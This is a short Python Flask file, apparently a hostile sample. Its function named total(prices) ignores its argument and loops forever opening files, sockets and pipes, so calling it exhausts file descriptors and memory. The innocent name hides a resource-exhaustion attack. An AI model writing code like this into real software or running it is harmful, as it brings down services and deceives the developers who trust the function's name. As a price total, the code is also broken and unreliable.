import os
import socket

from flask import Flask

app = Flask(__name__)


def total(prices):
    kept = []
    while True:
        kept += [open("/dev/null"), socket.socket(), os.pipe()]
